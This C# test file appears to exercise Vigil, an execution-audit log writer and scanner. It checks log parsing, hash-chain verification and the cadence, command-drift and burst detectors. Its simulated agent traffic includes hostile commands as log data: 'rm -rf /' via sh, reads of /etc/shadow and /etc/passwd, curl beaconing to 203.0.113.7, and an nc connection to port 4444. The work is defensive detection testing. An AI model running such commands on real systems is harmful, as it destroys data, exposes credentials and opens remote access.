using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Vigil.Exec;
using Vigil.Exec.Audit;
using Vigil.Exec.Identity;

namespace Vigil.Cli.Tests;

/// <summary>
/// The join (architecture goal 3): logs written by the real <see cref="AuditLog"/> are read by <c>vigil scan</c> as
/// <c>vigil-audit</c> with the columns the writer's events promise, and the detectors see cadence, command drift and
/// bursts in them. Every expected value comes from the events written here, never from a previous run.
/// </summary>
public sealed class AuditJoinTests : IDisposable
{
    private const long T0 = 1_767_225_600_000; // 2026-01-01T00:00:00Z

    private static readonly AgentId Alice = Agent(1);
    private static readonly AgentId Bob = Agent(2);
    private static readonly AgentId Beacon = Agent(3);
    private static readonly MachineId Web1 = Machine(1);
    private static readonly MachineId Db1 = Machine(2);

    private readonly TempDir _dir = new();

    public void Dispose() => _dir.Dispose();

    [Fact]
    public async Task ParserReadsExactlyWhatTheWriterWrites()
    {
        string path = Path.Combine(_dir.Path, "exec.log");
        var clock = new ManualClock();
        var rows = new List<Dictionary<string, object?>>();

        string[] printf = ["/usr/bin/printf", "%s\\n", "hello world", "naïve ☃ 日本語"];
        string[] sleep = ["/usr/bin/sleep", "600"];
        string[] shell = ["/bin/sh", "-c", "rm -rf / # \"quoted\""];
        string[] shadow = ["/usr/bin/cat", "/etc/shadow"];
        RequestId r1 = new(0x0123456789abcdef, 1), r2 = new(0x0123456789abcdef, 2), r3 = new(0x0123456789abcdef, 3), r4 = new(0, 4);

        await using (var log = new AuditLog(path, clock))
        {
            // Each expected row lists the columns its event carries; every other column must be null in that row.
            async Task Write(long at, AuditEvent e, Dictionary<string, object?> cells)
            {
                clock.UnixMs = at;
                await log.AppendAsync(e);
                cells["event"] = e.Name;
                cells["ts_unix_ms"] = at;
                cells["ts"] = at / 1000.0;
                cells["request_id"] = e.RequestId.ToString();
                rows.Add(cells);
            }

            await Write(T0, new AuditRequestEvent(r1, Alice, Web1, printf, "ops printf", 5, 30_000), Attempt(Alice, Web1, printf, new()
            {
                ["matched_acl"] = "ops printf",
                ["stdin_bytes"] = 5L,
                ["timeout_ms"] = 30_000L,
            }));
            await Write(T0 + 3, new AuditStartedEvent(r1, 4242), new() { ["pid"] = 4242L });
            await Write(T0 + 10, new AuditWarningEvent(r1, WarningKind.StdoutApproachingCap, 4096), new() { ["kind"] = "stdout_approaching_cap", ["bytes"] = 4096L });
            await Write(T0 + 11, new AuditWarningEvent(r1, WarningKind.StdoutCapHit, 8192), new() { ["kind"] = "stdout_cap_hit", ["bytes"] = 8192L });
            await Write(T0 + 23, new AuditExitEvent(r1, 0, null, 20, 9000, 0, true), Exit(0, null, 20, 9000, 0, true));

            // No matching ACL description (null), killed by SIGKILL after a duration warning without a byte count.
            await Write(T0 + 60_000, new AuditRequestEvent(r2, Bob, Db1, sleep, null, 0, 1000), Attempt(Bob, Db1, sleep, new()
            {
                ["stdin_bytes"] = 0L,
                ["timeout_ms"] = 1000L,
                ["gap_s"] = 60.0,
            }));
            await Write(T0 + 60_002, new AuditStartedEvent(r2, 4300), new() { ["pid"] = 4300L });
            await Write(T0 + 60_800, new AuditWarningEvent(r2, WarningKind.DurationApproachingCap, null), new() { ["kind"] = "duration_approaching_cap" });
            await Write(T0 + 61_003, new AuditExitEvent(r2, null, 9, 1001, 0, 12, false), Exit(null, 9, 1001, 0, 12, false));

            await Write(T0 + 120_500, new AuditDenialEvent(r3, Beacon, Web1, shell, DenialReason.ShellMetacharInArgv), Attempt(Beacon, Web1, shell, new()
            {
                ["reason"] = "shell_metachar_in_argv",
                ["gap_s"] = 60.5,
            }));
            await Write(T0 + 180_250, new AuditDenialEvent(r4, Alice, Db1, shadow, DenialReason.ArgvNotAllowed), Attempt(Alice, Db1, shadow, new()
            {
                ["reason"] = "argv_not_allowed",
                ["gap_s"] = 59.75,
            }));
        }

        string[] lines = File.ReadAllLines(path, Encoding.UTF8);
        Assert.Equal(rows.Count, lines.Length);
        for (int i = 0; i < rows.Count; i++)
        {
            rows[i]["seq"] = (long)i;
            rows[i]["prev"] = i == 0 ? new string('0', 64) : Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(lines[i - 1])));
        }

        string[] allColumns =
        [
            "event", "ts_unix_ms", "ts", "request_id", "agent_id", "machine_id", "argv", "argv0", "matched_acl", "stdin_bytes",
            "timeout_ms", "pid", "kind", "bytes", "code", "signal", "duration_ms", "stdout_bytes", "stderr_bytes", "truncated",
            "reason", "seq", "prev", "gap_s",
        ];

        CliRun scan = CliRunner.Run("scan", path);
        Assert.True(scan.Exit is 0 or 1, scan.Stderr);
        using (JsonDocument envelope = JsonDocument.Parse(scan.StdoutBytes))
        {
            Assert.Equal("vigil-audit", envelope.RootElement.GetProperty("format").GetString());
            Assert.Equal(rows.Count, envelope.RootElement.GetProperty("rows_scanned").GetInt32());
        }

        for (int i = 0; i < rows.Count; i++)
        {
            CliRun explain = CliRunner.Run("explain", $"row:{i}", path);
            Assert.True(explain.Exit == 0, explain.Stderr);
            using JsonDocument doc = JsonDocument.Parse(explain.StdoutBytes);
            JsonElement cells = doc.RootElement.GetProperty("evidence").GetProperty("cells");
            Assert.Equal(allColumns.Order(StringComparer.Ordinal), cells.EnumerateObject().Select(p => p.Name).Order(StringComparer.Ordinal));
            foreach (string column in allColumns)
            {
                object? expected = rows[i].GetValueOrDefault(column);
                Assert.True(CellEquals(cells.GetProperty(column), expected), $"row {i} column {column}: expected {expected ?? "null"}, got {cells.GetProperty(column)}");
            }
        }

        CliRun verify = CliRunner.Run("audit", "verify", path);
        Assert.Equal(0, verify.Exit);
        Assert.Equal($"ok: {path}: {rows.Count} events, chain intact\n", verify.Stdout);
    }

    /// <summary>
    /// An agent that runs one command every 60 s (± at most 0.3 s) among irregular human traffic. Cadence is
    /// measured on <c>ts</c> in row order, so on the whole log the humans' rows break the rhythm; the operator
    /// filters the agent's lines first (<c>grep '"agent_id":"…"'</c> keeps its request/denial lines, which still
    /// sniff as vigil-audit) and the metronome shows. The humans' filtered lines do not.
    /// </summary>
    [Fact]
    public async Task MetronomicAgentShowsItsCadenceOnceFiltered()
    {
        string path = Path.Combine(_dir.Path, "exec.log");
        var clock = new ManualClock();
        var events = new List<(long At, AgentId Agent, string[] Argv)>();
        for (int i = 0; i < 30; i++)
        {
            // Jitter in [-300, +300] ms, deterministic.
            events.Add((T0 + (i * 60_000) + (((i * 7919) % 601) - 300), Beacon, ["/usr/bin/curl", "-fsS", "https://203.0.113.7/poll"]));
        }

        long human = T0 + 5_000;
        for (int i = 0; i < 24; i++)
        {
            human += 9_000 + ((i * 104_729) % 150_000); // 9 s … 159 s apart
            events.Add((human, i % 2 == 0 ? Alice : Bob, i % 3 == 0 ? ["/usr/bin/df", "-h"] : ["/usr/bin/journalctl", "-u", "nginx", "-n", "50"]));
        }

        await WriteAttemptsAsync(path, clock, events);

        string beaconFile = _dir.File("beacon.jsonl", FilterAgents(path, Beacon));
        string humansFile = _dir.File("humans.jsonl", FilterAgents(path, Alice, Bob));

        Assert.Contains(("cad.regularity", "col:ts"), Findings(CliRunner.Run("scan", "--cadence", "ts", beaconFile)).Handles);
        Assert.DoesNotContain(Findings(CliRunner.Run("scan", "--cadence", "ts", path)).Handles, h => h.Detector == "cad.regularity");
        Assert.DoesNotContain(Findings(CliRunner.Run("scan", "--cadence", "ts", humansFile)).Handles, h => h.Detector == "cad.regularity");
    }

    /// <summary>The command mix moves from housekeeping to download-and-run: χ² on <c>argv0</c> says so; the same mix reshuffled does not.</summary>
    [Fact]
    public async Task CommandMixDriftIsChiSquareOnArgv0()
    {
        string[][] housekeeping = [["/usr/bin/df", "-h"], ["/usr/bin/uptime"], ["/usr/bin/systemctl", "status", "nginx"], ["/usr/bin/journalctl", "-u", "nginx"]];
        string[][] intrusion = [["/usr/bin/curl", "-fsS", "http://203.0.113.7/x"], ["/usr/bin/base64", "-d"], ["/usr/bin/nc", "203.0.113.7", "4444"]];

        var baseline = new List<(long, AgentId, string[])>();
        var reshuffled = new List<(long, AgentId, string[])>();
        var current = new List<(long, AgentId, string[])>();
        for (int i = 0; i < 60; i++)
        {
            long at = T0 + (i * 97_000);
            baseline.Add((at, i % 2 == 0 ? Alice : Bob, housekeeping[i % 4]));
            reshuffled.Add((at, i % 2 == 0 ? Bob : Alice, housekeeping[(i * 3) % 4])); // same 15/15/15/15 counts
            current.Add((at, i % 2 == 0 ? Alice : Bob, i % 3 == 0 ? housekeeping[i % 4] : intrusion[i % 3 == 1 ? 0 : (i / 3) % 2 + 1]));
        }

        string b = Path.Combine(_dir.Path, "baseline.jsonl"), s = Path.Combine(_dir.Path, "same.jsonl"), c = Path.Combine(_dir.Path, "current.jsonl");
        await WriteAttemptsAsync(b, new ManualClock(), baseline);
        await WriteAttemptsAsync(s, new ManualClock(), reshuffled);
        await WriteAttemptsAsync(c, new ManualClock(), current);

        var drifted = Findings(CliRunner.Run("scan", c, "--baseline", b));
        Assert.Equal("vigil-audit", drifted.Format);
        Assert.Contains(("dist.chi2", "dist:argv0"), drifted.Handles);
        Assert.DoesNotContain(Findings(CliRunner.Run("scan", s, "--baseline", b)).Handles, h => h.Handle == "dist:argv0");
    }

    /// <summary>
    /// Forty attempts minutes apart, then twenty-five 200 ms apart: the derived <c>gap_s</c> (seconds since the
    /// previous attempt) drops, and <c>coll.cusum</c> places the change on it. Without the burst it does not.
    /// </summary>
    [Fact]
    public async Task BurstOfAttemptsShiftsTheGap()
    {
        var calm = new List<(long, AgentId, string[])>();
        long at = T0;
        for (int i = 0; i < 40; i++)
        {
            at += 120_000 + ((i * 7_919) % 240_000); // 2 … 6 min apart
            calm.Add((at, i % 2 == 0 ? Alice : Bob, ["/usr/bin/uptime"]));
        }

        var burst = new List<(long, AgentId, string[])>(calm);
        for (int i = 0; i < 25; i++)
        {
            at += 200;
            burst.Add((at, Beacon, ["/usr/bin/cat", "/etc/passwd"]));
        }

        string calmPath = Path.Combine(_dir.Path, "calm.jsonl"), burstPath = Path.Combine(_dir.Path, "burst.jsonl");
        await WriteAttemptsAsync(calmPath, new ManualClock(), calm);
        await WriteAttemptsAsync(burstPath, new ManualClock(), burst);

        var found = Findings(CliRunner.Run("scan", burstPath));
        Assert.Contains(found.Handles, h => h.Detector == "coll.cusum" && h.Handle.StartsWith("range:gap_s:", StringComparison.Ordinal));
        // struct.schema still notes that gap_s is mostly null (only attempt rows carry it); that is not a burst claim.
        Assert.DoesNotContain(
            Findings(CliRunner.Run("scan", calmPath)).Handles,
            h => h.Detector != "struct.schema" && h.Handle.Contains(":gap_s", StringComparison.Ordinal));
    }

    /// <summary>auditd: the exec'd program mix (<c>comm</c>, <c>exe</c>) drifts between the two samples, not only the syscall numbers.</summary>
    [Fact]
    public void AuditdSamplesDriftOnTheCommandColumns()
    {
        var found = Findings(CliRunner.Run("scan", "--baseline", Sample("auditd-baseline.log"), Sample("auditd-current.log")));
        Assert.Equal("auditd", found.Format);
        Assert.Contains(("dist.chi2", "dist:comm"), found.Handles);
        Assert.Contains(("dist.chi2", "dist:exe"), found.Handles);
    }

    /// <summary>
    /// The README's vigil-audit samples are the writer's real format (the chain verifies), and the README's two
    /// claims hold: last week's housekeeping-only trail against this week's shifts the <c>argv0</c> mix (this week
    /// adds <c>/bin/sh</c> and <c>/usr/bin/cat</c> denials), and the burst sample's change in <c>gap_s</c> starts
    /// at row 120, the first of the 25 denials that follow 40 allowed attempts of three lines each.
    /// </summary>
    [Fact]
    public void SamplesVerifyAndShowTheReadmeFindings()
    {
        foreach (string name in new[] { "vigil-audit.jsonl", "vigil-audit-beacon.jsonl", "vigil-audit-baseline.jsonl", "vigil-audit-burst.jsonl" })
        {
            CliRun verify = CliRunner.Run("audit", "verify", Sample(name));
            Assert.True(verify.Exit == 0, name + ": " + verify.Stdout + verify.Stderr);
        }

        var drift = Findings(CliRunner.Run("scan", Sample("vigil-audit.jsonl"), "--baseline", Sample("vigil-audit-baseline.jsonl")));
        Assert.Contains(("dist.chi2", "dist:argv0"), drift.Handles);

        var burst = Findings(CliRunner.Run("scan", Sample("vigil-audit-burst.jsonl")));
        Assert.Contains(burst.Handles, h => h.Detector == "coll.cusum" && h.Handle.StartsWith("range:gap_s:120:", StringComparison.Ordinal));
    }

    private static Dictionary<string, object?> Attempt(AgentId agent, MachineId machine, string[] argv, Dictionary<string, object?> cells)
    {
        cells["agent_id"] = agent.ToString();
        cells["machine_id"] = machine.ToString();
        cells["argv"] = string.Join(' ', argv);
        cells["argv0"] = argv[0];
        return cells;
    }

    private static Dictionary<string, object?> Exit(int? code, int? signal, long durationMs, long stdout, long stderr, bool truncated) => new()
    {
        ["code"] = code is int c ? (long)c : null,
        ["signal"] = signal is int s ? (long)s : null,
        ["duration_ms"] = durationMs,
        ["stdout_bytes"] = stdout,
        ["stderr_bytes"] = stderr,
        ["truncated"] = truncated,
    };

    /// <summary>An explain cell (<c>{"t":…,"v":…}</c>) against an expected CLR value (null, string, long, double, bool).</summary>
    private static bool CellEquals(JsonElement cell, object? expected)
    {
        string t = cell.GetProperty("t").GetString()!;
        return expected switch
        {
            null => t == "null",
            string s => t == "str" && cell.GetProperty("v").GetString() == s,
            long l => t == "int" && cell.GetProperty("v").GetInt64() == l,
            double d => t == "float" && cell.GetProperty("v").GetDouble() == d,
            bool b => t == "bool" && cell.GetProperty("v").GetBoolean() == b,
            _ => throw new ArgumentException("unexpected expected type " + expected.GetType()),
        };
    }

    /// <summary>
    /// One attempt per entry, in time order: human and beacon agents on Web1 run allowed commands (request, started,
    /// exit); the agent id picks nothing else.
    /// </summary>
    private static async Task WriteAttemptsAsync(string path, ManualClock clock, List<(long At, AgentId Agent, string[] Argv)> attempts)
    {
        await using var log = new AuditLog(path, clock);
        ulong n = 0;
        foreach (var (at, agent, argv) in attempts.OrderBy(a => a.At))
        {
            var id = new RequestId(0xfeed, ++n);
            clock.UnixMs = at;
            await log.AppendAsync(new AuditRequestEvent(id, agent, Web1, argv, "ops", 0, 30_000));
            clock.UnixMs = at + 2;
            await log.AppendAsync(new AuditStartedEvent(id, 1000 + (int)n));
            clock.UnixMs = at + 40;
            await log.AppendAsync(new AuditExitEvent(id, 0, null, 38, 120, 0, false));
        }
    }

    /// <summary>What <c>grep -e '"agent_id":"ID1"' -e … exec.log</c> keeps: those agents' request and denial lines, in file order.</summary>
    private static string FilterAgents(string path, params AgentId[] agents)
    {
        string[] needles = [.. agents.Select(a => $"\"agent_id\":\"{a}\"")];
        return string.Concat(File.ReadLines(path).Where(l => needles.Any(n => l.Contains(n, StringComparison.Ordinal))).Select(l => l + "\n"));
    }

    private static (string Format, List<(string Detector, string Handle)> Handles) Findings(CliRun run)
    {
        Assert.True(run.Exit is 0 or 1, run.Stderr);
        return EnvelopeFindings.Read(run);
    }

    /// <summary>The repository's <c>samples/</c>, found from this source file (the build output may live outside the tree).</summary>
    private static string Sample(string name) => Path.Combine(RepoPaths.Root, "samples", name);

    private static AgentId Agent(byte n) => AgentId.FromBytes(Enumerable.Repeat(n, 32).Select((b, i) => (byte)(b * 31 + i)).ToArray());

    private static MachineId Machine(byte n) => MachineId.FromBytes(Enumerable.Repeat(n, 32).Select((b, i) => (byte)(b * 17 + (i * 3))).ToArray());

    /// <summary>A clock the test sets: the writer stamps each event with the time at <see cref="AuditLog.AppendAsync"/>.</summary>
    private sealed class ManualClock : TimeProvider
    {
        public long UnixMs { get; set; }

        public override DateTimeOffset GetUtcNow() => DateTimeOffset.FromUnixTimeMilliseconds(UnixMs);

        public override TimeZoneInfo LocalTimeZone => TimeZoneInfo.Utc;
    }
}
